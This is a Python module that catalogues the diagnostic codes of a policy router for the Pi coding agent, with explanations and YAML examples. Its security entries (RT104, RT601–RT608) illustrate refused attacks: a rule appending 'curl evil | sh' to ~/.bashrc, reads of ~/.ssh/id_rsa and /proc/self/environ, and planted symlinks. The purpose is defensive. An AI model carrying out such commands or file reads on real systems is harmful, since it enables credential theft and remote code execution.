"""The catalogue of diagnostic codes: stable, grouped by stage, never reused.

RT1xx reading and structure, RT2xx compiling expressions and actions, RT3xx lint semantics,
RT4xx evaluation, RT5xx executor and bridge, RT6xx capabilities (what a layer may do: found by
`router lint`, refused at run time). `docs/reference/codes.md` is generated from this table and
`router explain <CODE>` prints one entry.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class CodeInfo:
    code: str
    title: str
    what: str
    why: str
    example: str
    instead: str = ""


_ENTRIES = [
    CodeInfo("RT100", "file cannot be read",
             "A policy, test or event file is missing or cannot be read as UTF-8 text.",
             "Nothing in it can be checked or obeyed.",
             "use: [./team/base.yaml]   # the file does not exist",
             "Fix the path (relative paths are relative to the file that names them)."),
    CodeInfo("RT101", "invalid YAML",
             "The YAML parser stopped: bad indentation, an unclosed bracket or quote, a tab.",
             "The file cannot be loaded at all; the last good policy stays in force.",
             "rules:\n  - id: x\n    on: [input", "Close the bracket: `on: [input]`."),
    CodeInfo("RT102", "duplicate key",
             "The same key appears twice in one mapping.",
             "YAML would silently keep only one of them; the router refuses to guess.",
             "- id: a\n  when: x\n  when: y", "Keep one key, or combine the conditions with `and`."),
    CodeInfo("RT103", "file or policy too large",
             "A policy, test or event file is larger than 4 MiB or holds more than 1,000,000 YAML "
             "values, or the layered policy has more than 5,000 rules, or reading a file took longer "
             "than its limit (a project file 3 s in the sidecar, 20 s in `router trust`; any file "
             "3 s in a reload mid-session).",
             "Such a policy could not load within the sidecar's start time; it fails at once instead, "
             "and the last good policy stays in force.",
             "rules:  # 20,000 generated rules", "Merge rules that differ only in data into one rule "
             "that reads a var, or split the work between policies."),
    CodeInfo("RT104", "file refused: a link out of its project, or a kernel file",
             "A file is not read: a project's test or data file (`.pi/*.test.yaml`, a `project_data:` "
             "file) whose symbolic links lead outside the project or into a `.git` directory, or any "
             "file of `/proc` or `/sys` (or a file that reports no size yet gives bytes). "
             "Nothing of it is read or quoted; the diagnostic names the file and where it leads. "
             "A pip-installed pack's `use:` of a file outside its own package directory (or of a git "
             "source) is refused the same way: the rest of the pack loads.",
             "A cloned repository could link `.pi/ci.test.yaml` to `~/.git-credentials` or to "
             "`/proc/self/environ`, and `router lint` in CI would print your token or your whole "
             "environment into a public log.",
             "# .pi/ci.test.yaml -> ~/.netrc", "Commit the file itself, or a link to another file "
             "of the project."),
    CodeInfo("RT110", "unknown key",
             "A key that the policy format does not have; the help line suggests the closest one.",
             "A misspelled key (`matchh:`) would otherwise be ignored and the rule would match "
             "everything.", "- id: a\n  on: input\n  matchh: \"text == 'x'\"", "`match:`"),
    CodeInfo("RT111", "invalid value",
             "A value has the wrong type or is not one of the allowed values.",
             "The router cannot know what was meant.", "continue: maybe", "`continue: true`"),
    CodeInfo("RT112", "missing required key",
             "A required key is absent, such as a rule's `id` or `on`.",
             "The rule cannot be indexed or named in diagnostics.", "- when: \"true\"",
             "- id: my-rule\n  on: input\n  when: \"true\""),
    CodeInfo("RT113", "unsupported version",
             "The policy's `version` is not one this router understands (1).",
             "A newer format may mean things this version would misread.", "version: 2", "version: 1"),
    CodeInfo("RT120", "`use:` target not found",
             "A `use:` entry names no built-in pack and no existing file.",
             "The rules you meant to include are missing.", "use: [decsion]", "use: [decision]"),
    CodeInfo("RT121", "`use:` cycle",
             "Files `use:` each other in a loop.", "The layering order would be undefined.",
             "# a.yaml: use: [./b.yaml]\n# b.yaml: use: [./a.yaml]", "Remove one of the entries."),
    CodeInfo("RT122", "unknown rule id in an override",
             "`disable:`, `before:` or `after:` names a rule id that no earlier layer defines.",
             "The override does nothing, which is rarely what was meant.", "disable: [deepseek-firts-turn]",
             "Use the id as `router explain` or `router lint` shows it."),
    CodeInfo("RT123", "`provides.skills:` path not found",
             "A `provides.skills:` entry names no existing skill directory or SKILL.md file (paths are "
             "relative to the policy file).",
             "Pi would not list the skill, so the model never learns about it.",
             "provides: {skills: [skills/my-skil]}", "provides: {skills: [skills/my-skill]}"),
    CodeInfo("RT124", "var only the user may set",
             "A project policy sets a var that a pack reserves for the user's own file "
             "(`user_vars:`), such as the decision pack's `auto_trust_projects`. The project's value "
             "is ignored; the rest of the policy applies.",
             "Such vars switch on powers over the user's machine; a cloned repository must not "
             "choose them.", "# .pi/router.yaml\nvars: {auto_trust_projects: true}",
             "Set it in `~/.pi/agent/router.yaml`, if you want it at all."),
    CodeInfo("RT125", "git source not available",
             "A `use:` entry `git+<url>@<ref>#<file>` cannot be read: the entry is malformed (an "
             "unknown scheme, a ref or URL that starts with `-`, a path outside the repository), git "
             "failed or timed out, the commit has no such file, the file is a symbolic link of the "
             "repository (links are never extracted), the commit holds more than 64 MiB, "
             "`router.lock` pins a commit the named ref does not reach (a fork's pull request under a "
             "tag's name), or the sidecar found the source missing from `router.lock` or from the "
             "cache (it never fetches).",
             "The entry's rules are not in force: the source is refused, the rest of the policy applies "
             "and you are told which command fetches it.",
             "use: [\"git+https://github.com/acme/policies.git@v1#team.yaml\"]  # not fetched yet",
             "Run `router lint` (fetches what is missing and writes `router.lock`) or `router update`."),
    CodeInfo("RT126", "cached git source does not match the lock",
             "A file of a git source in the cache has other bytes than the SHA-256 `router.lock` "
             "recorded when the source was locked.",
             "Someone or something changed the cache after it was fetched; the router refuses to run "
             "rules nobody reviewed.",
             "# ~/.cache/pi-policy-router/git/…/team.yaml edited by hand",
             "Delete the cache directory the message names and run `router lint` to fetch it again."),
    CodeInfo("RT130", "invalid event document",
             "An event given to `router explain` or a test is not a mapping or has an unknown `type`.",
             "Without a type the router cannot pick the rules to evaluate.", "{text: hi}",
             "{type: input, text: hi}"),
    CodeInfo("RT131", "invalid event field",
             "An event document has a field the event model does not define, or a wrong type.",
             "A misspelled field would make the example test something else than intended.",
             "{type: input, txt: hi}", "{type: input, text: hi}"),
    CodeInfo("RT201", "invalid JMESPath",
             "A `match:` is not valid JMESPath.", "The rule could never be evaluated.",
             "match: \"text ==\"",
             "match: \"text == 'hi'\" (strings in single quotes, numbers in backticks)"),
    CodeInfo("RT202", "invalid expression",
             "A `when:` or signal expression has a syntax error.", "The rule could never be evaluated.",
             "when: \"signals.p >\"", "when: \"signals.p > 0.5\""),
    CodeInfo("RT203", "forbidden construct in an expression",
             "An expression uses something the safe language leaves out: methods, lambdas, '_' names, "
             "keyword arguments.", "Expressions must not reach Python internals.",
             "when: \"text.lower() == 'x'\"", "when: \"lower(text) == 'x'\""),
    CodeInfo("RT204", "invalid template",
             "A `{…}` template in an action parameter does not compile.",
             "The action could never render.", "notify: \"p={signals.p:.2f\"",
             "notify: \"p={signals.p:.2f}\""),
    CodeInfo("RT205", "unknown event type",
             "A rule's `on:` names an event type the router does not know.",
             "The rule would never run.", "on: [tool_cal]", "on: [tool_call] (see docs/events.md)"),
    CodeInfo("RT206", "unknown action",
             "A `do:` item names an action outside the fixed vocabulary.",
             "The executor has no such capability; there is no shell or arbitrary command.",
             "do: [{notfy: hi}]", "do: [{notify: hi}] (see docs/reference/actions.md)"),
    CodeInfo("RT207", "invalid action parameters",
             "An action's parameters are missing, unknown or of the wrong type.",
             "The executor could not carry the action out.", "- tools: {only: [read], add: [bash]}",
             "- tools: {only: [read]}"),
    CodeInfo("RT208", "unknown function",
             "An expression or match calls a function that is not registered.",
             "The call would fail on every event.", "when: \"lowercase(text) == 'x'\"",
             "when: \"lower(text) == 'x'\" (see docs/reference/functions.md)"),
    CodeInfo("RT209", "wrong number of arguments",
             "A helper function is called with too few or too many arguments.",
             "The call would fail on every event.", "when: \"clamp(x, 0)\"", "when: \"clamp(x, 0, 1) > 0\""),
    CodeInfo("RT210", "regex does not compile",
             "A literal regex passed to regex() or regex_find() is invalid, or uses what the linear-time "
             "engine (RE2) cannot do: a lookaround, a backreference, an atomic group, `(?x)`; the message "
             "says what to write instead.",
             "The call would fail on every event.", "when: \"regex(text, '(unclosed')\"",
             "when: \"regex(text, '\\\\(unclosed')\""),
    CodeInfo("RT301", "unknown event field",
             "A path reads a field that the events the rule listens to do not have.",
             "The value would always be null, so the condition silently never holds.",
             "on: input\nwhen: \"txt == 'hi'\"", "when: \"text == 'hi'\""),
    CodeInfo("RT302", "unknown name in an expression",
             "An expression uses a name that is neither an event field nor vars, state, signals or "
             "signal_errors.", "Bare words are names, not strings; the value would be null.",
             "when: \"state.band == react\"", "when: \"state.band == 'react'\""),
    CodeInfo("RT303", "undefined var", "An expression reads `vars.X` but no layer defines X.",
             "The value would always be null.", "when: \"signals.p > vars.treshold\"",
             "when: \"signals.p > vars.threshold\""),
    CodeInfo("RT304", "undefined signal", "An expression reads `signals.X` but no layer defines X.",
             "The value would always be null.", "when: \"signals.pcomplex > 0.5\"",
             "when: \"signals.p_complex > 0.5\""),
    CodeInfo("RT305", "duplicate rule id", "Two rules in one file have the same id.",
             "Overrides, traces and tests name rules by id; it must be unique per file.",
             "- id: route\n...\n- id: route", "Rename one; a later layer may reuse an id to override."),
    CodeInfo("RT306", "rule can never fire",
             "An earlier rule of the same group listens to the same events, has no condition (or "
             "only one that is always true, such as `when: \"true\"`) and does not `continue`, so "
             "it decides every such event first.",
             "The later rule is dead code, which is almost always a mistake.",
             "- id: catch-all\n  on: input\n  do: [...]\n- id: special\n  on: input\n  match: ...",
             "Move the special rule first, give the catch-all a condition or `continue: true`."),
    CodeInfo("RT307", "regex may backtrack catastrophically",
             "A literal regex repeats a group that itself repeats (`(a+)+`).",
             "Such patterns take exponential time on some inputs and would stall the agent.",
             "regex(text, '(\\\\w+\\\\s?)+$')", "regex(text, '[\\\\w\\\\s]+$')"),
    CodeInfo("RT308", "inline example fails",
             "A rule's `examples:` entry does not produce the expected outcome.",
             "Examples are executable documentation; a failing one documents the wrong behaviour.",
             "examples: [{event: {type: input, text: hi}, expect: {fires: true}}]",
             "Run `router test` for the diff and fix the rule or the example."),
    CodeInfo("RT309", "action has no effect on the rule's events",
             "An action that only means something on some event types (`block` on tool_call, `route` "
             "on route, `section` on before_agent_start …) is used by a rule that listens to none of them.",
             "The bridge would ignore it; the rule does less than it says.",
             "- id: no-rm\n  on: input\n  do: [{block: no}]",
             "on: tool_call (docs/reference/actions.md lists where each action applies)"),
    CodeInfo("RT310", "signal cycle", "Signals depend on each other in a loop.",
             "Evaluating any of them would never finish.",
             "signals:\n  a: {expr: signals.b}\n  b: {expr: signals.a}", "Break the loop."),
    CodeInfo("RT311", "unused var or signal", "A var or signal that nothing reads.",
             "Usually a leftover or a typo on the reading side.", "vars: {treshold: 0.5}",
             "Remove it or fix the name where it is read."),
    CodeInfo("RT312", "state key never written",
             "A rule reads `state.X` but no `set:` action writes X.",
             "The value is always null; usually a typo.", "when: \"state.bnd == 'react'\"",
             "when: \"state.band == 'react'\""),
    CodeInfo("RT313", "undeclared environment variable",
             "A rule reads `env.NAME` but the policy does not list NAME under `env:` (or in a var).",
             "Events carry only declared variables, so the value is always null.",
             "when: \"env.MY_FLAG == '1'\"", "env: [MY_FLAG]"),
    CodeInfo("RT314", "shadow rule writes state",
             "A `shadow: true` rule has `set` or `unset` actions.",
             "Shadow rules are never applied, so later rules will not see the writes.",
             "- id: try\n  shadow: true\n  do: [{set: {x: 1}}]", "Remove `shadow` or the state write."),
    CodeInfo("RT315", "regex pattern from evaluation data",
             "A regex() or regex_find() pattern is computed while evaluating (from event fields, "
             "state or signals), not written in the policy.",
             "The pattern cannot be checked when the policy loads (RT210, RT307); text that reaches "
             "it can make it slow or invalid. It runs within the evaluation budget (RT404).",
             "when: \"regex(text, state.pattern)\"",
             "Write the pattern in the policy or in `vars:`; to look for a piece of text, use "
             "contains() or count_keywords()."),
    CodeInfo("RT316", "a user-only var is switched on",
             "Your own policy sets a var that a pack marks as powerful (`user_vars:`); the warning "
             "says what it lets the pack do.",
             "Such settings are easy to copy from an example without noticing what they allow.",
             "vars: {auto_trust_projects: true}", "Remove it unless you want exactly that."),
    CodeInfo("RT317", "an event object compared with a text",
             "A `when:` compares an event field that is an object (such as `model`) with a text "
             "using `==` or `!=`; an object never equals a text.",
             "The condition is always false (or, with `!=`, always true), silently.",
             "when: \"model == 'fake/fake-cloud'\"",
             "Compare one of the object's fields: `model.ref == 'fake/fake-cloud'`."),
    CodeInfo("RT318", "a policy file that sets nothing",
             "The file is empty, holds only comments, or only `version: 1`.",
             "It changes nothing, which is rarely what its author meant (a file saved half-written, "
             "or rules under a misspelt key).",
             "# my policy\n", "Add `use: [default]` or rules; `router init` writes a starter policy."),
    CodeInfo("RT330", "bad `let:` binding or template loop name",
             "A `let:` binding (or a template's `{for NAME in …}` name) is not a plain name, equals a "
             "name of the scope (an event field, `vars`, `state`, `signals`, `env`, a signal's "
             "`result`, another binding), uses a binding defined below it, or bindings depend on each "
             "other in a cycle.",
             "Local names never hide anything, so `name` in a rule always means one thing; a binding "
             "sees the bindings above it, so the order reads top to bottom.",
             "let:\n  name: \"argv[0]\"   # 'name' is a field of command events",
             "let:\n  sub: \"argv[0]\""),
    CodeInfo("RT331", "unused `let:` binding",
             "A binding that nothing of its rule (or signal) reads: not `when`, no template, no later "
             "binding.", "It is dead code, or a misspelled name elsewhere reads null instead.",
             "let:\n  days: \"to_number(argv[1]) or 7\"\nwhen: \"true\"",
             "Remove it, or read it as `days`."),
    CodeInfo("RT332", "expression too long to read",
             "An expression (a `match`, `when`, binding, signal expression or one `{…}` placeholder) of "
             "your own files is longer than 200 characters, whitespace runs counted once. Built-in "
             "packs are not reported.",
             "Long expressions hide their logic and their mistakes; reviews skim them.",
             "when: \"(a and b) or (c and d) or ...   # 300 characters\"",
             "Name the parts with `let:` (or signals); write a long text as a multi-line template "
             "(`|-` with `{for …}`, `{if …}` lines)."),
    CodeInfo("RT333", "invalid `command:` shorthand",
             "A rule's `command:` does not start with a command name, or the rule listens to events "
             "other than `command`.",
             "The shorthand expands to `name == '…' && argv[…] == '…'`, which only command events have.",
             "on: input\ncommand: cuttle stats", "on: command\ncommand: cuttle stats"),
    CodeInfo("RT334", "`command:` names an undeclared command",
             "A rule's `command:` names a slash command that no policy file declares under "
             "`provides.commands:`.",
             "Pi registers only declared commands, so the rule would never fire.",
             "command: cutle stats",
             "command: cuttle stats   # and `provides: {commands: [{name: cuttle}]}`"),
    CodeInfo("RT335", "key moved under `provides:`",
             "A file writes at the top level a key that now belongs under `provides:` (`commands`, "
             "`tools`, `virtual_models`, `skills`, `bus_events`, `import`, and `question_events`, now "
             "`provides.questions`). It still loads as before.",
             "What a policy provides besides its rules lives under one key, so the format does not grow "
             "a top-level key per pack need; the old spelling will not be documented.",
             "commands:\n  - {name: my-router}",
             "`provides: {commands: [{name: my-router}]}`; `router lint --fix` moves every such key, "
             "comments kept."),
    CodeInfo("RT401", "evaluation error",
             "A condition or action template failed while evaluating one event (a type error, a "
             "missing value). The rule is treated as not matching (or the action is skipped).",
             "The agent keeps working; each occurrence is logged, the first of each rule is a warning, "
             "and `router explain` and `router test` show it.",
             "when: \"usage.tokens + 1000 > 5000\"  # usage.tokens is null right after a compaction",
             "when: \"usage.tokens != null and usage.tokens + 1000 > 5000\""),
    CodeInfo("RT402", "helper function failed",
             "A helper function rejected its arguments at evaluation time (a wrong type, a value out "
             "of range, a regex pattern computed from data that does not compile).",
             "As RT401: the rule does not match, the agent keeps working.",
             "when: \"lower(tools.active) == 'x'\"", "Pass the type the function expects."),
    CodeInfo("RT403", "evaluation limit reached",
             "An expression exceeded a resource limit (string length, power, comprehension size).",
             "Limits keep a policy from stalling the agent or exhausting memory.",
             "when: \"'x' * 10**9\"", "Compute less."),
    CodeInfo("RT404", "evaluation budget exceeded",
             "A rule used more than its own allowance (250 ms of wall time or 20,000,000 characters and "
             "items built, never more than the event has left), or the evaluation of one event (or of "
             "one `router explain` or `router test` case) used more than its budget: 1 s of wall time "
             "or 50,000,000 characters and items, across all rules, signals and templates. The rule is "
             "named with its file, line and expression.",
             "A runaway rule (a huge comprehension) would stall the agent. The rule fails alone and "
             "the rules after it run; a rule that can block fails closed (it blocks, saying why). Once "
             "the event's budget is used up, the remaining rules that can block block and the others "
             "are skipped, with one warning.",
             "when: \"length([upper(text) * 1000 for a in range(10000)]) > 0\"", "Make the rule "
             "cheaper: a smaller comprehension, fewer copies of long texts."),
    CodeInfo("RT501", "action failed",
             "The executor could not carry out an action (an unwritable log or audit file, a settings "
             "file that is not valid JSON, an unknown model, …).",
             "The rest of the decision is still applied; the failure is logged and notified.",
             "- model: fake/does-not-exist", "Name a model `pi --list-models` shows."),
    CodeInfo("RT502", "signal failed",
             "An external signal (classifier, child pi, completion) failed or timed out; its "
             "fallback was used and the reason is in `signal_errors`.",
             "Failures are never silent.", "classify: {model: llama.cpp/kev, timeout_ms: 10}",
             "Raise the timeout or fix the model; read `signal_errors.<name>` in rules."),
    CodeInfo("RT503", "policy reload failed",
             "A policy file changed while Pi was running and the new version has errors.",
             "The last good policy stays in force until the file is fixed.", "(any error)",
             "Run `router lint` and fix what it reports."),
    CodeInfo("RT601", "project policy writes outside its project",
             "A `log`, `audit` or `save` action, or a `slot` signal's `dir`, of a project policy "
             "(`.pi/router.yaml` and the project files it uses) names a file outside the project "
             "directory and `<agent dir>/router/data/`, inside a `.git` directory, or configuration "
             "Pi or the router reads from the project's `.pi/` (`settings.json`, `extensions/`, "
             "`skills/`, `router.yaml`, test files, …). Paths are "
             "resolved first: `~` is your home, `..` is removed, symbolic links are followed. A "
             "literal path is reported by `router lint`; a templated one is checked when it renders. "
             "The rule (or signal) is refused as a whole; the rest of the policy works.",
             "Policies travel with repositories: a cloned project must not append `curl … | sh` to "
             "your `~/.bashrc`, replace `~/.profile` or rewrite `.git/config`.",
             "- id: x\n  on: input\n  do: [{log: {file: ~/.bashrc, text: 'curl evil | sh'}}]",
             "Write inside the project (`file: .pi/router.log`), or put the rule in your own "
             "`~/.pi/agent/router.yaml`."),
    CodeInfo("RT602", "project policy reads outside its project",
             "A `read`, `load` or `records` signal, a `skills:` entry, or a `child` signal's "
             "`system_prompt` that names a file (Pi reads such a prompt from the file), of a project "
             "policy reads outside the project directory and `<agent dir>/router/data/`, or inside a "
             "`.git` directory. Paths are resolved as for RT601. A rule that reads a refused signal "
             "is refused too.",
             "What a rule reads it can send to a model provider: a project must not read "
             "`~/.ssh/id_rsa` or `/proc/self/environ`.",
             "signals:\n  key: {read: {file: ~/.ssh/id_rsa}}",
             "Read files of the project only, or move the signal to your own router.yaml."),
    CodeInfo("RT603", "project policy reads an environment variable you did not grant",
             "A project policy reads `env.NAME` (or all of `env`), binds a var to `{env: NAME}`, "
             "lists NAME under `env:`, or uses `$NAME` in a path, and your own router.yaml does not "
             "list NAME under `project_env:`. Project rules and signals see only the granted "
             "variables; a rule that reads a refused var is refused too.",
             "Environment variables hold tokens and keys (`GITHUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`); "
             "a project must not read them unless you say so.",
             "vars:\n  token: {env: GITHUB_TOKEN}",
             "In ~/.pi/agent/router.yaml: `project_env: [MY_FLAG]` (names you are happy to share)."),
    CodeInfo("RT604", "project policy chooses the child's program",
             "A project policy's `child` signal sets `pi_bin`, or it has a `which` signal. A "
             "project's child signals always run your `pi` (from PATH, or as your own policy "
             "configures it); their prompt, system prompt, provider and model are values, never "
             "extra arguments. Where programs are on your PATH is not the project's business.",
             "A repository could ship a script named `pi` and have the router run it.",
             "signals:\n  c: {child: {prompt: hi, pi_bin: ./tools/pi}}", "Remove `pi_bin`."),
    CodeInfo("RT605", "project policy uses a file outside its project",
             "A project policy's `use:` entry names a file outside the project directory (after "
             "following symbolic links), or `.pi/router.yaml` itself is a link that leads out. The "
             "file is not read at all. Built-in packs by name (`use: [decision]`) stay allowed.",
             "`use:` would read any file as a policy, and show parts of it in diagnostics.",
             "use: [/etc/shadow.yaml]", "use: [decision, ./.pi/team.yaml]"),
    CodeInfo("RT606", "`project_env` or `decision_log` outside your own file",
             "`project_env:` or `decision_log:` appears in a file other than your own router.yaml "
             "(or a file it uses, or a `--policy` file). It is ignored.",
             "Only you grant environment variables to project policies, and only you decide what "
             "the decision log records (prompt text included); a project cannot decide either.",
             "# .pi/router.yaml\nproject_env: [AWS_SECRET_ACCESS_KEY]",
             "Put `project_env:` (or `decision_log:`) in ~/.pi/agent/router.yaml."),
    CodeInfo("RT607", "file is a symbolic link",
             "A file the router writes (a log, audit or saved-settings file, a lock file) or a file a "
             "project policy reads is a symbolic link. The router opens such files without "
             "following a final link (O_NOFOLLOW) and refuses this one; the rest of the decision "
             "still applies. The decision log's directories (`router/`, `router/log/` of the agent "
             "dir) are not followed either: a link there turns the log off for the run.",
             "A link planted in a shared directory (`/tmp/debug.log -> ~/.bashrc`) would make the "
             "router append to or replace a file of someone's choosing.",
             "ln -s ~/.bashrc /tmp/cuttle-debug.log", "Remove the link, or name the real file."),
    CodeInfo("RT608", "project policy answers Pi's project-trust prompt",
             "A project policy has a rule with a `trust` action. Only the built-in packs and your own "
             "router.yaml may answer Pi's project-trust prompt; the rule is refused.",
             "Once Pi trusts a folder it loads its `.pi/extensions/*.ts` (code that runs in Pi), its "
             "settings and skills: a repository must not vouch for itself.",
             "- id: x\n  on: project_trust\n  do: [{trust: {trusted: 'yes', remember: true}}]",
             "Let Pi ask you, or answer in ~/.pi/agent/router.yaml."),
    CodeInfo("RT609", "lower layer changes a locked managed rule",
             "Your file or the project's overrides (same id), disables or places a rule ahead of a "
             "rule that the managed policy (`$ROUTER_MANAGED_DIR/router.yaml`, else "
             "`/etc/pi-policy-router/router.yaml`) marks `locked: true`. The lower rule or entry is "
             "dropped and the rest applies. As a warning: `locked: true` outside the managed policy, "
             "where it means nothing.",
             "Locked rules are what an administrator requires on every machine; no user or project file "
             "may take them away.",
             "# managed: - {id: no-force-push, locked: true, …}\n# .pi/router.yaml\ndisable: [no-force-push]",
             "Add a rule with another id, placed after the locked one."),
    CodeInfo("RT620", "failure policy opened where it may not be",
             "A project policy's `failure_policy:` says `open` for an event your own rules guard (a "
             "`block` on `tool_call`, a `rewrite_result` on `tool_result`), or a file says `open` where "
             "the managed policy says `closed`. The entry is ignored: the event stays closed.",
             "When the engine cannot answer, a closed event is refused instead of let through; a cloned "
             "repository must not be able to switch your guards off by making the engine fail.",
             "# .pi/router.yaml\nfailure_policy: {tool_call: open}",
             "Declare `open` in your own ~/.pi/agent/router.yaml if you mean it (docs/security.md)."),
]

CODES: dict[str, CodeInfo] = {entry.code: entry for entry in _ENTRIES}


def render_code(info: CodeInfo) -> str:
    """The documentation page of one code, as Markdown."""
    parts = [f"## {info.code}: {info.title}", "", "**What it does.** " + info.what, "",
             "**Why it matters.** " + info.why, "", "**Example**", "", "```yaml", info.example, "```"]
    if info.instead:
        parts += ["", "**Use instead.** " + info.instead]
    return "\n".join(parts)
